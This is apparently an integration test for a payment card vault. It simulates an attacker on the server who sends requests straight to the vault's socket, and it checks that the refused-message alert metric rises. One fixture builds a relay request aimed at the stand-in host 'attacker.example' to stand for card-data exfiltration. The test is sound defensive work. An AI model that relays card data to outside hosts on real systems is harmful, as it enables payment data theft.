import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Client } from 'undici';
import { expect, it } from 'vitest';
import { useApi } from '../../support/api.ts';
import { eventually } from '../../support/make.ts';

/** The attacker has code in the server, and speaks to the vault's socket directly, past the server's program. */
const api = useApi();

const ALERTS = readFileSync(
  join(import.meta.dirname, '../../../../../deploy/prometheus/alerts.yml'),
  'utf8',
);
/** Metric of the alert about refused messages. */
const METRIC =
  /alert: FlorinVaultRefusesMessages\s+expr: "increase\((\w+)\[10m\]\) > 0"/.exec(ALERTS)?.[1] ??
  '';

/** Numbers of the alert, by reason. */
async function readNumbers(): Promise<Record<string, number>> {
  const text = await (await fetch(`${api.stack.baseUrl}/metrics`)).text();
  const series = text.matchAll(new RegExp(`^${METRIC}\\{.*reason="(\\w+)"\\} (\\d+)$`, 'gm'));
  return Object.fromEntries([...series].map(([, reason, count]) => [reason, Number(count)]));
}

async function post(path: string, body: object): Promise<number> {
  const thief = new Client('http://vault', { socketPath: api.stack.vaultSocket });
  try {
    const { statusCode, body: answer } = await thief.request({
      method: 'POST',
      path,
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
    await answer.dump();
    return statusCode;
  } finally {
    await thief.destroy();
  }
}

const messageHome = () => ({
  id: randomUUID(),
  merchant_id: randomUUID(),
  mode: 'live',
  consumes_cvv: false,
  method: 'POST',
  url: 'https://attacker.example/',
  headers: {},
  body: {},
  card_fields: {},
  timeout_ms: 1_000,
  not_after: Number.MAX_SAFE_INTEGER,
});

it.each<[string, string, () => object, number]>([
  ['egress_not_allowed', '/relay', () => ({ requests: [messageHome()] }), 200],
  ['bad_request', '/relay', () => ({ requests: [{ ...messageHome(), mode: 'any' }] }), 400],
  ['unknown_path', '/audit/export', () => ({}), 404],
])('raises the number of the alert: %s', async (reason, path, bodyOf, status) => {
  const { [reason]: before } = await readNumbers();
  // A series that begins with its first count has no increase for Prometheus.
  expect(before).toEqual(expect.any(Number));
  expect(await post(path, bodyOf())).toBe(status);
  await eventually(readNumbers, ({ [reason]: after = 0 }) => after > (before as number));
});
